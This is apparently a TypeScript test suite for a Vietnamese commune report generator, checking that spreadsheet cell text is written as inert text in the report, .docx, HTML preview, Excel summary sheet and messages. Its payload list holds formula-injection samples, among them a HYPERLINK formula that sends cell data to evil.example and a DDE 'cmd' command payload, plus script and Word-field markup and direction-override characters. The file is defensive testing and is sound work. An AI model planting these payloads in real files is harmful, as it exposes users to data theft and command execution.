// Cell text that looks like a formula, markup, a Word field or a direction override never becomes one in anything the
// product writes: the report text, the .docx, the pane's HTML preview, the Excel summary sheet, and messages.
import JSZip from 'jszip';
import { renderToStaticMarkup } from 'react-dom/server';
import { createDOMRenderer, FluentProvider, RendererProvider, webLightTheme } from '@fluentui/react-components';
import { buildReport } from '../../src/core/report/sections';
import { reportText } from '../../src/core/report/plainText';
import type { ReportInput } from '../../src/core/report/input';
import { summariseHouseholds } from '../../src/core/summary/households';
import type { HouseholdRecord } from '../../src/core/registers/households/schema';
import { reportToDocx } from '../../src/io/docx';
import { docxParagraphsOfBytes } from '../../src/io/docxParagraphs';
import { ReportPreview } from '../../src/taskpane/report/ReportPreview';
import { summarySheetModel } from '../../src/hosts/excel/summarySheet';
import { asLiteral } from '../../src/hosts/excel/port';
import { renderMessage } from '../../src/i18n/messages';
import { quotedValue } from '../../src/core/text/display';

const RLO = '\u202e';
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '<script>alert("x")</script>',
  '<w:fldSimple w:instr="HYPERLINK http://evil.example"/>',
  '{ HYPERLINK "http://evil.example" }',
  `Nguyễn Văn ${RLO}nA${'\u2066'}`,
];
// eslint-disable-next-line no-control-regex -- control characters are what is looked for
const HIDDEN = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u0000-\u0008]/;

const award = (name: string, i: number): ReportInput['awardItems'][number] => ({
  recipientName: name, recipientKind: 'individual', position: `Thôn ${name}`, form: i % 2 ? 'Giấy khen' : name, authority: i % 2 ? name : 'Chủ tịch UBND xã',
  level: i % 3 ? 'xa' : 'huyen', communeChair: i % 3 !== 0, party: false, higher: i % 3 === 0, decisionNo: name, decisionDate: { y: 2024, m: 12, d: 20 }, amount: 500000,
});

function input(): ReportInput {
  const villages = PAYLOADS.slice(0, 4);
  const records = villages.flatMap((v, i) => Array.from({ length: 3 + i }, (): HouseholdRecord => ({ village: v, villageText: v, poor: i === 0, nearPoor: false, average: false, culturalFamilyRegistered: true, culturalFamilyAchieved: true, learningFamily: false, size: 4 }) as unknown as HouseholdRecord));
  return { year: 2024, commune: `An ${RLO}Hòa`, villages, households: summariseHouseholds(records, villages), awardItems: PAYLOADS.map(award), awards: { total: PAYLOADS.length } as ReportInput['awards'] };
}

const doc = () => buildReport(input());

describe('nothing from a cell becomes a formula, markup, a field or reversed text', () => {
  test('the report text keeps the payloads as plain words, without hidden direction characters', () => {
    const t = reportText(doc(), false);
    expect(t).toContain('=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")');
    expect(t).toContain('<script>alert("x")</script>');
    expect(t).toContain('Nguyễn Văn nA');
    expect(t).not.toMatch(HIDDEN);
  });

  test('the .docx holds them as escaped text runs: no field, no raw markup, no override', async () => {
    const bytes = await reportToDocx(doc(), { title: `Báo cáo ${RLO}x` });
    const xml = await (await JSZip.loadAsync(bytes)).file('word/document.xml')!.async('string');
    expect(xml).not.toMatch(/<w:fldChar|<w:instrText|<w:fldSimple|<script/);
    expect(xml).toContain('&lt;script&gt;alert(');
    expect(xml).toContain('&lt;w:fldSimple');
    expect(xml).not.toMatch(HIDDEN);
    const back = (await docxParagraphsOfBytes(bytes)).join('\n');
    expect(back).toContain('+cmd|\' /C calc\'!A0');
    expect(back).toContain('{ HYPERLINK "http://evil.example" }');
  });

  test('the HTML preview escapes markup and drops overrides', () => {
    const html = renderToStaticMarkup(
      <RendererProvider renderer={createDOMRenderer()}>
        <FluentProvider theme={webLightTheme}><ReportPreview doc={doc()} /></FluentProvider>
      </RendererProvider>,
    );
    expect(html).not.toMatch(/<script|<w:fldSimple/);
    expect(html).toContain('&lt;script&gt;');
    expect(html).not.toMatch(HIDDEN);
  });

  test('the Excel summary sheet writes every such text as a literal, never a formula', () => {
    const i = input();
    const m = summarySheetModel({ year: 2024, summary: { households: i.households }, commune: i.commune } as Parameters<typeof summarySheetModel>[0], `sổ ${RLO}.xlsx`, new Date(Date.UTC(2024, 11, 20)));
    const strings = [m.title, m.subtitle, ...m.tables.flatMap((t) => [...t.header, ...t.rows.flat(), ...(t.totalRow ?? [])])].filter((v): v is string => typeof v === 'string');
    expect(strings.filter((s) => HIDDEN.test(s))).toEqual([]);
    for (const s of strings) if (/^[=+\-@]/.test(s)) expect(asLiteral(s)).toBe(`'${s}`);
    expect(m.tables[0].rows.map((r) => asLiteral(r[0]))).toEqual(["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")", "'+cmd|' /C calc'!A0", "'@SUM(1)", "'-2+3"]);
  });

  test('messages quote a long or hidden-character cell shortened and plain', () => {
    const long = `${'Nguyễn Văn An '.repeat(3000)}${RLO}`;
    const msg = renderMessage('village.unknown', { value: long }, 'vi');
    expect(msg.length).toBeLessThan(400);
    expect(msg).not.toMatch(HIDDEN);
    expect(quotedValue(long)).toMatch(/^Nguyễn Văn An Nguyễn.*…$/);
    expect(quotedValue(long).length).toBeLessThanOrEqual(80);
    expect(quotedValue('ngắn')).toBe('ngắn');
  });
});
